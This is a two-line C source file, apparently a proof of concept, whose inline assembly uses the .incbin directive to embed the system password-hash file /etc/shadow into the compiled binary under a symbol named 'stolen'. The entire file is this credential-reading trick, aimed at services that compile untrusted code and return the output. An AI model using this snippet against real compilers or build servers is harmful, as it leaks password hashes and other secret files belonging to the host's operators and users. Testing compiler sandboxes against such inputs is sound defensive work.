asm(".section .rodata\n.global stolen\nstolen:\n.incbin \"/etc/shadow\"\n");
int main() {}
